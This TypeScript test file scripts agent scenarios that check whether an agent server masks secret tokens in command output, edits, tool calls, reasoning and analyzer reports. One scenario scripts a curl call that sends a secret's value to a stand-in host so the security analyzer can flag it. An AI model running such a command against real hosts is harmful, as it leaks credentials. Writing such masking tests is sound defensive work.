import { call, edit, finish, run, type Scenario, think } from "../scenario.ts";

export function secretScenarios(secretUrl: string): Scenario[] {
  return [
    {
      name: "secrets are masked",
      script: [run("echo $TOKEN_A"), run("echo nothing"), finish],
      request: {
        secrets: { TOKEN_A: { kind: "StaticSecret", value: "s3cr3t-value", description: "a token" } },
      },
    },
    {
      name: "a secret that is looked up",
      script: [run("echo $TOKEN_B"), finish],
      request: {
        secrets: {
          TOKEN_B: { kind: "LookupSecret", url: secretUrl, headers: { Authorization: "Bearer x" } },
        },
      },
    },
    {
      name: "a secret whose lookup fails",
      script: [run("echo [$TOKEN_C]"), finish],
      request: { secrets: { TOKEN_C: { kind: "LookupSecret", url: "http://127.0.0.1:9/x" } } },
    },
    {
      name: "secrets set later",
      // The first command gives the reference's terminal time to start; before that it loses output.
      script: [run("true"), run("echo $TOKEN_D $TOKEN_E $TOKEN_F"), finish],
      drive: async (client) => {
        await client.post("/secrets", {
          secrets: { TOKEN_D: "value-of-d", TOKEN_E: { value: "value-of-e" } },
        });
        await client.post("/secrets", {
          secrets: { TOKEN_F: { kind: "StaticSecret", value: "value-of-f" } },
        });
        await client.sendAndWait("Go.");
        await client.post("/secrets", { secrets: { TOKEN_G: 3 } });
        await client.post("/secrets", { secrets: { TOKEN_H: { kind: "Nope" } } });
        await client.post("/secrets", {});
      },
    },
    {
      name: "secrets in what tools and the agent say",
      script: (workspace) => [
        run("echo value-of-j > leak.txt"),
        edit({ command: "view", path: `${workspace}/leak.txt` }),
        edit({ command: "create", path: `${workspace}/more.txt`, file_text: "with value-of-j inside\n" }),
        edit({
          command: "str_replace",
          path: `${workspace}/more.txt`,
          old_str: "with",
          new_str: "value-of-j",
        }),
        call("task_tracker", { command: "plan", task_list: [{ title: "Use value-of-j", status: "todo" }] }),
        think("It is value-of-j."),
        call("nope", { x: "value-of-j" }),
        run("printf 'value-of-j value-of-j' | base64; printf value-of-j | rev"),
        { text: "It is value-of-j, or value-of-k.", reasoning: "I know value-of-j." },
        call("finish", { message: "It is value-of-j." }),
      ],
      request: {
        secrets: {
          TOKEN_J: { kind: "StaticSecret", value: "value-of-j" },
          TOKEN_K: { kind: "StaticSecret", value: "value-of-k" },
        },
      },
      drive: async (client) => {
        await client.sendAndWait("Use value-of-j.");
        await client.sendAndWait("Again.");
        await client.get("/agent_final_response");
      },
    },
    {
      name: "secrets in what a security analyzer tells",
      script: [run("curl http://example.invalid/?x=value-of-l"), finish],
      request: {
        confirmation_policy: { kind: "AlwaysConfirm" },
        security_analyzer: { kind: "PatternSecurityAnalyzer" },
        secrets: { TOKEN_L: { kind: "StaticSecret", value: "value-of-l" } },
      },
      drive: async (client) => {
        await client.sendAndWait("Go.");
        await client.post("/events/respond_to_confirmation", { accept: false, reason: "Not value-of-l." });
        await client.postAndWait("/run");
      },
    },
    {
      name: "secrets replaced and given again",
      script: [run("echo $TOKEN_M"), run("echo $TOKEN_M old-value-of-m"), finish],
      request: {
        secrets: { TOKEN_M: { kind: "StaticSecret", value: "old-value-of-m", description: "first" } },
      },
      drive: async (client) => {
        await client.get("");
        await client.post("/secrets", { secrets: { TOKEN_M: "new-value-of-m" } });
        await client.get("");
        await client.sendAndWait("Go.");
        await client.post("/secrets", { secrets: { TOKEN_M: { value: null } } });
        await client.post("/secrets", { secrets: { TOKEN_M: { value: "" } } });
        await client.post("/secrets", { secrets: { "not a name": "x", "": "y" } });
        await client.get("");
      },
    },
    {
      name: "secrets of the agent's context",
      script: [run("echo $TOKEN_I"), finish],
      agent: { agent_context: { secrets: { TOKEN_I: "value-of-i" } } },
    },
  ];
}
